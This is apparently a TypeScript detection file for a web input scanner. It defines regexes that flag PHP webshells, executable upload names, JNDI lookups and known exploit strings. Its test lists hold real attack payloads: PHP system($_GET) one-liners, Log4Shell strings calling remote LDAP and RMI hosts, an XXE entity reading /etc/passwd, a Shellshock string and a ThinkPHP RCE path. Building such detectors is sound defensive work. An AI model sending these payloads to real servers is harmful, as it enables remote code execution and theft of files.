// Grammar of texts written to run PHP, Java or the code of one application.
// Each entry keeps the hostile and innocent texts that it is tested with.
import type { GrammarEntry } from './grammar-entry.ts';

/** Tried on the first 4,096 characters of a decoded value. */
export const CODE_GRAMMAR: readonly GrammarEntry[] = [
  // an uploaded file name that a web server would run
  {
    id: 'upload-exec',
    family: 'php',
    cls: 'active',
    re: /^[^\s/\\]{1,120}\.(?:php\d?|phtml|phar|pht|jspx?|aspx?|ashx|cgi)(?:\.(?:jpe?g|png|gif|txt|pdf|webp))?$/i,
    hostile: ['a.php', 'a.phtml', 'a.php.jpg'],
    innocent: ['theme.php.zip', 'foto.jpg', "it's me.png"],
  },
  // PHP code that reads the request or runs something
  {
    id: 'php-code',
    family: 'php',
    cls: 'active',
    re: /<\?(?:php\b|=)?[^?]{0,400}(?:\b(?:system|exec|shell_exec|passthru|eval|assert|popen|proc_open|base64_decode|file_put_contents|phpinfo|move_uploaded_file|fwrite|include|require|gzinflate|str_rot13|create_function|call_user_func\w*|die|md5)\s*[(\s]|\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)\b)|\b(?:eval|assert|system|passthru|shell_exec|exec|call_user_func(?:_array)?)\s*\(\s*@?(?:\$_(?:GET|POST|REQUEST|COOKIE)|base64_decode|gzinflate|chr\s*\(|str_rot13|stripslashes)/i,
    hostile: [
      "<?php system($_GET['c']);?>",
      'GIF89a<?php system($_GET["c"]); ?>',
      '<?= shell_exec($_GET[0])?>',
      "eval(base64_decode('x'))",
    ],
    innocent: ['<?xml version="1.0"?>', 'echo system (5.1 sound)'],
  },
  // a lookup expression
  {
    id: 'jndi',
    family: 'java',
    cls: 'active',
    re: /\$\{\s*(?:jndi\s*:|(?:lower|upper|env|sys|main|date|base64|ctx|java|::)\s*:)|\$\{[^}]{0,60}:-[a-z]?\}/i,
    hostile: [
      '${jndi:ldap://198.51.100.1/a}',
      '${${lower:j}ndi:ldap://198.51.100.66/b}',
      '${${::-j}ndi:rmi://x/y}',
    ],
    innocent: ['${name}', '${price} EUR'],
  },
  // texts that single published exploits need
  {
    id: 'app-exploit',
    family: 'exploit',
    cls: 'active',
    re: /\binvokefunction\b|\bcall_user_func_array\b|\bauto_prepend_file\b|\ballow_url_include\b|class\.module\.classLoader|#_memberAccess|@java\.lang\.|\bjava\.lang\.(?:Runtime|ProcessBuilder)|<!ENTITY\s+%?\s*\w+\s+(?:SYSTEM|PUBLIC)|<!DOCTYPE\s+(?!html\b)\w{1,40}\s+SYSTEM\b|__proto__(?:\[|\])|\bO:\d+:"[\w\\]+":\d+:\{|\(\)\s*\{\s*[^}]{0,40};\s*\}\s*;|__class__\s*\.\s*__|<%\s*=?\s*\d+\s*\*\s*\d+|#\{\s*\d+\s*\*\s*\d+/i,
    hostile: [
      '<!DOCTYPE x SYSTEM "//198.51.100.9/x"><x>a</x>',
      '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array',
      '-d allow_url_include=1 -d auto_prepend_file=php://input',
      '() { :;}; /bin/bash -c id',
      '<!ENTITY xxe SYSTEM "file:///etc/passwd">',
    ],
    innocent: ['() => {}', 'class module loader'],
  },
  // a call of PHP as the whole value, by name, inside a string, or of what a request brought
  {
    id: 'php-call',
    family: 'php',
    cls: 'active',
    re: /^[\s;'"@(]{0,8}(?:phpinfo|phpversion|php_uname|var_dump|print_r|scandir|readfile|highlight_file|show_source|file_get_contents|shell_exec|passthru|proc_open|pcntl_exec)\s*\([^()]{0,120}\)[\s;'"/#)-]{0,8}$|\$\{\s*@|\$\{\s*(?:phpinfo|system|exec|print|eval|passthru)\s*\(|\b(?:assert|eval|create_function|call_user_func(?:_array)?|array_map|preg_replace|usort)\s*\([^()]{0,80}['"](?:phpinfo|system|exec|passthru|shell_exec|assert)\b|\b(?:include|require)(?:_once)?\s*\(?\s*['"]?\$_(?:GET|POST|REQUEST|COOKIE)|<\?(?:php\b|=)[^?]{0,400}\$\w{1,30}\s*\(/i,
    hostile: [
      ';phpversion()',
      'phpinfo()',
      ';phpinfo();',
      '${@print(md5(1))}',
      '${@phpinfo()}',
      'assert("phpinfo()")',
      "create_function('','phpinfo();')",
      "call_user_func('system','id')",
      "preg_replace('/x/e','phpinfo()','x')",
      'include($_GET[f])',
      "<?php $a='sys'.'tem';$a('id');",
    ],
    innocent: [
      'What does phpinfo() show about memory?',
      'preg_replace("/a/", "b", $text)',
      '${user}',
      "include('header.php');",
      '<?php echo "hi"; ?>',
      'the exec (boss) is out',
    ],
  },
];
